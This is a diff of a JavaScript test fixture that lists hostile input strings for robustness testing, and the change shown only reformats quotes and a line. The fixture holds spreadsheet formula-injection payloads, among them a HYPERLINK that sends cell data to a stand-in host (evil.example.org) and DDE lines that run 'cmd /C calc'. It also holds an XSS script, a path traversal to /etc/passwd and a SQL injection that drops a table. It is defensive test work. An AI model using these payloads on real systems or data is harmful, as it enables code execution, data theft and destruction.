@@ -14,9 +14,9 @@ export const HOSTILE = {
 	nul: 'before\u0000after',
 	lone_surrogate: 'half \ud83d pair \udc00 end',
 	formula: '=HYPERLINK("http://evil.example.org/?x="&A1,"open")',
-	formula_plus: '+cmd|\' /C calc\'!A0',
-	formula_minus: '-2+3+cmd|\' /C calc\'!A0',
-	formula_at: '@SUM(1+9)*cmd|\' /C calc\'!A0',
+	formula_plus: "+cmd|' /C calc'!A0",
+	formula_minus: "-2+3+cmd|' /C calc'!A0",
+	formula_at: "@SUM(1+9)*cmd|' /C calc'!A0",
 	formula_tab: '\t=1+1',
 	formula_cr: '\r=1+1',
 	html: '<script>alert(1)</script><img src=x onerror=alert(2)>',
@@ -27,7 +27,7 @@ export const HOSTILE = {
 	combining: 'Z' + '\u0351\u0321\u0334'.repeat(60) + 'algo',
 	brackets: '![[]('.repeat(400),
 	path: '../../../../etc/passwd\u0000.md',
-	sql: 'Robert\'); DROP TABLE leads;--',
+	sql: "Robert'); DROP TABLE leads;--",
 	emoji: '👩‍👩‍👧‍👦🏳️‍🌈 ﷽ ꧅',
 };
 
@@ -39,8 +39,7 @@ export const hostileKinds = [...KINDS, 'huge'];
 
 /** One hostile text; 'huge' (512 KB and a bit) is made when it is asked for. */
 export function hostileText(kind) {
-	if (kind === 'huge')
-		return ('All work and no play. '.repeat(1000) + '\n').repeat(24);
+	if (kind === 'huge') return ('All work and no play. '.repeat(1000) + '\n').repeat(24);
 	return HOSTILE[kind];
 }
 
